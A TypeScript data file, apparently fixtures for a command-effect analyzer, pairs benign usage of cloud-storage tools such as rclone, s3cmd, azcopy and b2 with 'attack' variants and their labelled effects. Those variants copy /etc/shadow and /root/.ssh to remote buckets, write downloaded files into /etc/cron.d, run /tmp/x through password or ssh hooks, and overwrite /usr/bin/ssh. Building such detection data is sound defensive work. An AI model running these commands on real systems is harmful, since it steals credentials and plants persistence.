import type { ExampleTable } from './example.ts'

export const cloudStorage1: ExampleTable = {
  'azcopy copy': {
    use: 'azcopy copy notes.txt https://shop.blob.core.windows.net/backups/notes.txt → read notes.txt; send https://shop.blob.core.windows.net/backups/notes.txt',
    attack: [
      'azcopy copy /etc/shadow https://shop.blob.core.windows.net/backups/s → read /etc/shadow; send https://shop.blob.core.windows.net/backups/s',
      'azcopy copy https://shop.blob.core.windows.net/backups/job /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  'azcopy sync': {
    use: 'azcopy sync src https://shop.blob.core.windows.net/backups → read src; send https://shop.blob.core.windows.net/backups',
    attack: [
      'azcopy sync /root/.ssh https://shop.blob.core.windows.net/backups → read /root/.ssh; send https://shop.blob.core.windows.net/backups',
      'azcopy sync https://shop.blob.core.windows.net/jobs /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  'b2 cat': {
    use: 'b2 cat b2://backups/notes.txt → fetch b2://backups/notes.txt',
  },
  'b2 download-file-by-name': {
    use: 'b2 download-file-by-name backups notes.txt out.txt → fetch notes.txt; write out.txt',
    attack:
      'b2 download-file-by-name backups job /etc/cron.d/job → fetch job; write /etc/cron.d/job',
  },
  'b2 file cat': {
    use: 'b2 file cat b2://backups/notes.txt → fetch b2://backups/notes.txt',
  },
  'b2 file download': {
    use: 'b2 file download b2://backups/notes.txt out.txt → fetch b2://backups/notes.txt; write out.txt',
    attack:
      'b2 file download b2://backups/job /etc/cron.d/job → fetch b2://backups/job; write /etc/cron.d/job',
  },
  'b2 sync': {
    use: 'b2 sync src b2://backups/src → read src; send b2://backups/src',
    attack: [
      'b2 sync /root/.ssh b2://backups/keys → read /root/.ssh; send b2://backups/keys',
      'b2 sync b2://backups/jobs /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  'b2 upload-file': {
    use: 'b2 upload-file backups notes.txt notes.txt → read notes.txt; send b2 upload-file',
    attack: 'b2 upload-file backups /etc/shadow s → read /etc/shadow; send b2 upload-file',
  },
  'minio server': {
    use: 'minio server /srv/data → listen 9000',
  },
  obsutil: {
    use: 'obsutil cp notes.txt obs://backups/notes.txt → read notes.txt; send obs://backups/notes.txt',
    attack: [
      'obsutil cp /etc/shadow obs://backups/s → read /etc/shadow; send obs://backups/s',
      'obsutil cp obs://backups/job /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  'ossutil cat': {
    use: 'ossutil cat oss://backups/notes.txt → fetch oss://backups/notes.txt',
  },
  'ossutil cp': {
    use: 'ossutil cp notes.txt oss://backups/notes.txt → read notes.txt; send oss://backups/notes.txt',
    attack: [
      'ossutil cp /etc/shadow oss://backups/s → read /etc/shadow; send oss://backups/s',
      'ossutil cp oss://backups/job /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  rclone: {
    use: "rclone --password-command='cat pw.txt' ls remote: → read pw.txt",
    attack: 'rclone --password-command=/tmp/x ls remote: → run /tmp/x',
  },
  'rclone bisync': {
    use: 'rclone bisync src remote:src → read src; send remote:src',
    attack: [
      'rclone bisync /root/.ssh remote:keys → read /root/.ssh; send remote:keys',
      'rclone bisync remote:jobs /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  'rclone cat': {
    use: 'rclone cat remote:notes.txt → fetch remote:notes.txt',
    attack: 'rclone cat remote:notes.txt --sftp-ssh=/tmp/x → run /tmp/x; fetch remote:notes.txt',
  },
  'rclone config dump': {
    attack: 'rclone config dump → read secret://; read secret://rclone',
  },
  'rclone config show': {
    attack: 'rclone config show remote → read secret://remote; read secret://rclone',
  },
  'rclone copy': {
    use: 'rclone copy src remote:src → read src; send remote:src',
    attack: [
      'rclone copy /etc/shadow remote:backup → read /etc/shadow; send remote:backup',
      'rclone copy remote:jobs /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  'rclone copyurl': {
    use: 'rclone copyurl https://example.org/x out.txt → fetch https://example.org/x; write out.txt',
    attack:
      'rclone copyurl https://example.org/x /etc/cron.d/job → fetch https://example.org/x; write /etc/cron.d/job',
  },
  'rclone link': {
    use: 'rclone link remote:notes.txt → nothing',
    attack: 'rclone link remote:notes.txt --password-command=/tmp/x → run /tmp/x',
  },
  'rclone ls': {
    use: 'rclone ls remote:backup → nothing',
    attack: 'rclone ls remote:backup --password-command=/tmp/x → run /tmp/x',
  },
  'rclone md5sum': {
    use: 'rclone md5sum remote:backup --output-file=MD5SUMS → write MD5SUMS',
    attack: 'rclone md5sum remote:backup --password-command=/tmp/x → run /tmp/x',
  },
  'rclone mount': {
    use: 'rclone mount remote: /mnt/remote → unpack /mnt/remote',
    attack: 'rclone mount remote: /mnt/remote --password-command=/tmp/x → run /tmp/x',
  },
  'rclone ncdu': {
    use: 'rclone ncdu remote: → nothing',
    attack: 'rclone ncdu remote: --password-command=/tmp/x → run /tmp/x',
  },
  'rclone rcat': {
    use: 'echo hello | rclone rcat remote:hello.txt → send remote:hello.txt',
    attack:
      'echo hello | rclone rcat remote:hello.txt --sftp-ssh=/tmp/x → run /tmp/x; send remote:hello.txt',
  },
  'rclone rcd': {
    use: 'rclone rcd --rc-addr=localhost:5572 → listen localhost:5572',
  },
  'rclone reveal': {
    attack: 'rclone reveal tZ3mUqkWbZqSy6Q → read secret://tZ3mUqkWbZqSy6Q; read secret://rclone',
  },
  'rclone selfupdate': {
    use: 'rclone selfupdate --output=rclone.new → write rclone.new',
    attack: 'rclone selfupdate --output=/usr/bin/ssh → write /usr/bin/ssh',
  },
  'rclone serve': {
    use: 'rclone serve http public → listen :; send anybody; listen rclone serve',
    attack: [
      'rclone serve http /root/.ssh → listen :; send anybody; listen rclone serve',
      'rclone serve sftp public --auth-proxy=/tmp/x → run /tmp/x; listen :; send anybody; listen rclone serve',
    ],
  },
  'rest-server': {
    use: 'rest-server --path /srv/restic → listen 8000',
  },
  's3-cli': {
    use: 's3-cli put notes.txt s3://backups/notes.txt → read notes.txt; send s3://backups/notes.txt',
    attack: 's3-cli put /etc/shadow s3://backups/s → read /etc/shadow; send s3://backups/s',
  },
  's3cmd cp': {
    use: 's3cmd cp s3://backups/a s3://backups/b → nothing',
  },
  's3cmd du': {
    use: 's3cmd du s3://backups → nothing',
  },
  's3cmd get': {
    use: 's3cmd get s3://backups/notes.txt out.txt → fetch s3://backups/notes.txt; write out.txt',
    attack:
      's3cmd get s3://backups/job /etc/cron.d/job → fetch s3://backups/job; write /etc/cron.d/job',
  },
  's3cmd info': {
    use: 's3cmd info s3://backups → nothing',
  },
  's3cmd la': {
    use: 's3cmd la → nothing',
  },
  's3cmd mb': {
    use: 's3cmd mb s3://backups → nothing',
  },
  's3cmd mv': {
    use: 's3cmd mv s3://backups/a s3://backups/b → nothing',
  },
  's3cmd put': {
    use: 's3cmd put notes.txt s3://backups/notes.txt → read notes.txt; send s3://backups/notes.txt',
    attack: 's3cmd put /etc/shadow s3://backups/s → read /etc/shadow; send s3://backups/s',
  },
  's3cmd rm': {
    use: 's3cmd rm s3://backups/old.txt → nothing',
  },
  's3cmd setacl': {
    use: 's3cmd setacl --acl-private s3://backups → nothing',
  },
  's3cmd signurl': {
    use: 's3cmd signurl s3://backups/notes.txt +3600 → nothing',
  },
  's3cmd sync': {
    use: 's3cmd sync src s3://backups/src → read src; send s3://backups/src',
    attack: [
      's3cmd sync /root/.ssh s3://backups/keys → read /root/.ssh; send s3://backups/keys',
      's3cmd sync s3://backups/jobs /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  s3fs: {
    use: 's3fs backups /mnt/backups → nothing',
  },
  's5cmd cat': {
    use: 's5cmd cat s3://backups/notes.txt → fetch s3://backups/notes.txt',
  },
  's5cmd cp': {
    use: [
      's5cmd cp notes.txt s3://backups/notes.txt → read notes.txt; send s3://backups/notes.txt',
      's5cmd cp s3://backups/notes.txt out → unpack out',
    ],
    attack: [
      's5cmd cp /etc/shadow s3://backups/s → read /etc/shadow; send s3://backups/s',
      's5cmd cp s3://backups/job /etc/cron.d/ → unpack /etc/cron.d/',
    ],
  },
  's5cmd pipe': {
    use: 'echo hello | s5cmd pipe s3://backups/hello.txt → send s3://backups/hello.txt',
  },
  's5cmd run': {
    use: 's5cmd run commands.txt → read commands.txt',
    attack: 's5cmd run /etc/shadow → read /etc/shadow',
  },
  's5cmd sync': {
    use: 's5cmd sync src s3://backups/src → read src; send s3://backups/src',
    attack: [
      's5cmd sync /root/.ssh s3://backups/keys → read /root/.ssh; send s3://backups/keys',
      's5cmd sync s3://backups/jobs /etc/cron.d → unpack /etc/cron.d',
    ],
  },
  drive: {
    use: 'drive push notes.txt → read notes.txt; send drive',
    attack: 'drive push /etc/shadow → read /etc/shadow; send drive',
  },
  gdown: {
    use: 'gdown https://drive.google.com/uc?id=1a2b3c -O model.bin → fetch https://drive.google.com/uc?id=1a2b3c; write model.bin',
    attack:
      'gdown https://drive.google.com/uc?id=1a2b3c -O /etc/cron.d/job → fetch https://drive.google.com/uc?id=1a2b3c; write /etc/cron.d/job',
  },
  'gdrive files': {
    use: 'gdrive files upload notes.txt → read notes.txt; send gdrive files',
    attack: 'gdrive files upload /etc/shadow → read /etc/shadow; send gdrive files',
  },
  'gdrive upload': {
    use: 'gdrive upload notes.txt → read notes.txt; send gdrive upload',
    attack: 'gdrive upload /etc/shadow → read /etc/shadow; send gdrive upload',
  },
  'mega-put': {
    use: 'mega-put notes.txt /backups → read notes.txt; send /backups',
    attack: 'mega-put /etc/shadow /backups → read /etc/shadow; send /backups',
  },
  megadl: {
    use: 'megadl --path=downloads https://mega.nz/file/x → fetch https://mega.nz/file/x; unpack downloads',
    attack:
      'megadl --path=/etc/cron.d https://mega.nz/file/x → fetch https://mega.nz/file/x; unpack /etc/cron.d',
  },
  megaget: {
    use: 'megaget --path=downloads /Root/notes.txt → unpack downloads',
    attack: 'megaget --path=/etc/cron.d /Root/job → unpack /etc/cron.d',
  },
  megaput: {
    use: 'megaput --path=/Root/backups notes.txt → read notes.txt; send megaput',
    attack: 'megaput --path=/Root/backups /etc/shadow → read /etc/shadow; send megaput',
  },
  nextcloudcmd: {
    use: 'nextcloudcmd src https://cloud.example.org → read-tree src; send https://cloud.example.org',
    attack:
      'nextcloudcmd /root/.ssh https://cloud.example.org → read-tree /root/.ssh; send https://cloud.example.org',
  },
  gcsfuse: {
    use: 'gcsfuse backups /mnt/backups → fetch backups',
  },
  goofys: {
    use: 'goofys backups /mnt/backups → fetch backups',
  },
  'b2 file upload': {
    use: 'b2 file upload backups notes.txt notes.txt → read notes.txt; send backups',
    attack: 'b2 file upload backups /etc/shadow s → read /etc/shadow; send backups',
  },
  'coscmd download': {
    use: 'coscmd download backups/notes.txt out.txt → fetch backups/notes.txt; write out.txt',
    attack:
      'coscmd download backups/job /etc/cron.d/job → fetch backups/job; write /etc/cron.d/job',
  },
  'coscmd upload': {
    use: 'coscmd upload notes.txt backups/notes.txt → read notes.txt; send backups/notes.txt',
    attack: 'coscmd upload /etc/shadow backups/s → read /etc/shadow; send backups/s',
  },
  's4cmd get': {
    use: 's4cmd get s3://backups/notes.txt out.txt → fetch s3://backups/notes.txt; write out.txt',
    attack:
      's4cmd get s3://backups/job /etc/cron.d/job → fetch s3://backups/job; write /etc/cron.d/job',
  },
  's4cmd dsync': {
    use: 's4cmd dsync -r data s3://backups/data → touch data; read data; send s3://backups/data',
    attack:
      's4cmd dsync -r s3://backups/jobs /etc/cron.d → fetch s3://backups/jobs; unpack /etc/cron.d',
  },
  's4cmd put': {
    use: 's4cmd put notes.txt s3://backups/notes.txt → read notes.txt; send s3://backups/notes.txt',
    attack: 's4cmd put /etc/shadow s3://backups/s → read /etc/shadow; send s3://backups/s',
  },
  'dbxcli get': {
    use: 'dbxcli get /backups/notes.txt out.txt → write out.txt',
    attack: 'dbxcli get /backups/job /etc/cron.d/job → write /etc/cron.d/job',
  },
  'dbxcli put': {
    use: 'dbxcli put notes.txt /backups/notes.txt → read notes.txt; send /backups/notes.txt',
    attack: 'dbxcli put /etc/shadow /backups/s → read /etc/shadow; send /backups/s',
  },
  'skicka download': {
    use: 'skicka download /backups/notes.txt out.txt → write out.txt',
    attack: 'skicka download /backups/job /etc/cron.d/job → write /etc/cron.d/job',
  },
  'skicka upload': {
    use: 'skicka upload notes.txt /backups → read notes.txt; send /backups',
    attack: 'skicka upload /etc/shadow /backups → read /etc/shadow; send /backups',
  },
}
